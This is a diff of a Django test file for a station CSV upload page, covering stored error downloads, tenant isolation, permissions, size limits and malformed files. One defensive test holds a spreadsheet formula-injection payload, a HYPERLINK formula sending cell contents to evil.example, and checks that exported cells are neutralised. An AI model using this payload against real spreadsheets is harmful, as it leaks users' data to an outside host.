@@ -1,14 +1,18 @@
 """The upload page (``stations:upload``) and its example files (``stations:example_csv``)."""
 
+import csv
+import io
+
 import pytest
 from django.core.files.uploadedfile import SimpleUploadedFile
+from django.test import Client
 from django.urls import reverse
 
 from stations import csv_format, csv_import
 from stations.choices import ImportSource
 from stations.models import ConnectorSpec, ImportRecord, Station
 from tests.csv_helpers import csv_bytes, row, station_rows
-from tests.factories import make_station, make_support
+from tests.factories import make_operator, make_station, make_support
 
 pytestmark = pytest.mark.django_db
 
@@ -105,23 +109,57 @@ def test_shows_first_100_errors_and_the_total(operator_client):
     assert "Download all 150 errors (CSV)" in page
 
 
-def test_full_error_list_downloads_as_csv_without_server_state(operator_client, operator):
+def errors_url(response) -> str:
+    return reverse("stations:upload_errors", kwargs={"pk": response.context["result"].record.pk})
+
+
+def test_full_error_list_is_stored_on_the_record_and_downloads_as_csv(operator_client, operator):
     rows = [row(Station_ID=f"S{n}", Voltage="1") for n in range(150)]
-    token = upload(operator_client, csv_bytes(*rows)).context["errors_token"]
-    response = operator_client.post(URL, {"errors_token": token})
-    assert response.status_code == 200
-    assert response["Content-Type"] == "text/csv; charset=utf-8"
-    lines = response.content.decode("utf-8-sig").splitlines()
+    response = upload(operator_client, csv_bytes(*rows))
+    record = response.context["result"].record
+    assert len(record.errors) == 150
+    assert record.errors[0] == {
+        "row": 2,
+        "column": "Voltage",
+        "code": "min_value",
+        "message": "Ensure this value is greater than or equal to 110.",
+        "value": "1",
+    }
+    assert f'href="{errors_url(response)}"' in response.content.decode()
+    download = operator_client.get(errors_url(response))
+    assert download.status_code == 200
+    assert download["Content-Type"] == "text/csv; charset=utf-8"
+    lines = download.content.decode("utf-8-sig").splitlines()
     assert lines[0] == "Row;Column;Value;Message"
     assert len(lines) == 151
     assert lines[1] == "2;Voltage;1;Ensure this value is greater than or equal to 110."
 
 
-def test_error_download_refuses_tampered_or_foreign_tokens(operator_client, client, other_operator):
-    token = upload(operator_client, csv_bytes(row(Voltage="1"))).context["errors_token"]
-    assert operator_client.post(URL, {"errors_token": token + "x"}).status_code == 400
+def test_error_list_of_another_tenant_is_404(operator_client, other_operator):
+    url = errors_url(upload(operator_client, csv_bytes(row(Voltage="1"))))
+    client = Client()
     client.force_login(other_operator)
-    assert client.post(URL, {"errors_token": token}).status_code == 403
+    assert client.get(url).status_code == 404
+
+
+def test_error_list_needs_login_and_add_station(operator_client, tenant):
+    url = errors_url(upload(operator_client, csv_bytes(row(Voltage="1"))))
+    client = Client()
+    assert client.get(url).status_code == 302
+    viewer = make_operator(tenant, "vera")
+    viewer.groups.clear()
+    client.force_login(viewer)
+    assert client.get(url).status_code == 403
+
+
+def test_error_list_cells_are_neutralised_column_and_message_too(operator_client):
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"fix")'
+    header = [formula if h == "Serial number" else h for h in csv_format.HEADERS]
+    response = upload(operator_client, csv_bytes(row(), header=header))
+    download = operator_client.get(errors_url(response)).content.decode("utf-8-sig")
+    cells = [cell for line in list(csv.reader(io.StringIO(download), delimiter=";"))[1:] for cell in line]
+    assert cells, download
+    assert not [cell for cell in cells if cell[:1] and cell[:1] in "=+-@"], cells
 
 
 def test_check_only_reports_per_station_and_writes_nothing(operator_client, tenant):
@@ -156,6 +194,8 @@ def test_file_over_the_limit_is_refused_before_it_is_read(operator_client, setti
     big = csv_bytes(*[row(Station_ID=f"S{n}") for n in range(100)])
     assert len(big) > 1000
     response = upload(operator_client, big)
+    # The upload handler stopped storing it: the request never got the file.
+    assert "file" not in response.wsgi_request.FILES
     assert [e.code for e in response.context["result"].errors] == ["file_too_large"]
     assert "the limit is" in response.content.decode()
     assert not Station.objects.exists()
@@ -167,12 +207,45 @@ def test_request_far_over_the_limit_is_refused_without_storing_it(operator_clien
     settings.STATION_IMPORT_MAX_UPLOAD_BYTES = 1000
     huge = b"x" * (200 * 1024)
     response = upload(operator_client, huge)
+    assert "file" not in response.wsgi_request.FILES
     assert [e.code for e in response.context["result"].errors] == ["file_too_large"]
+    assert ImportRecord.objects.get().error_count == 1
 
 
 def test_workbook_is_refused_with_a_clear_message(operator_client):
     response = upload(operator_client, b"PK\x03\x04\x14\x00\x06\x00" + b"\x00" * 100, name="stations.xlsx")
+    assert response.status_code == 422
+    assert [e.code for e in response.context["result"].errors] == ["not_text"]
     assert "workbook" in response.content.decode()
+    assert not Station.objects.exists()
+    record = ImportRecord.objects.get()
+    assert (record.succeeded, record.file_name, record.error_count) == (False, "stations.xlsx", 1)
+
+
+def test_unclosed_quote_in_a_long_file_is_a_422_with_a_record(operator_client):
+    rows = [row(Station_ID=f"S{n}") for n in range(3000)]
+    data = csv_bytes(*rows).replace(b"S10;K7P2-93QX;Alfen", b'S10;K7P2-93QX;"Alfen')
+    response = upload(operator_client, data)
+    assert response.status_code == 422
+    assert [e.code for e in response.context["result"].errors] == ["unclosed_quote"]
+    assert not Station.objects.exists()
+    assert ImportRecord.objects.get().errors[0]["code"] == "unclosed_quote"
+
+
+def test_empty_file_is_the_engines_error_with_a_record(operator_client):
+    response = upload(operator_client, b"")
+    assert response.status_code == 422
+    assert [e.code for e in response.context["result"].errors] == ["empty_file"]
+    assert ImportRecord.objects.get().error_count == 1
+
+
+def test_limits_on_the_page_come_from_the_settings(operator_client, settings):
+    settings.STATION_IMPORT_MAX_ROWS = 1200
+    settings.STATION_IMPORT_MAX_UPLOAD_BYTES = 5_000_000
+    page = operator_client.get(URL).content.decode()
+    assert "At most 1,200 rows</strong> below the header and 4.8 MB" in page
+    assert "at most 1,200 rows and 4.8 MB." in page
+    assert "5,000" not in page
 
 
 def test_windows_1252_file_is_imported_and_said(operator_client):
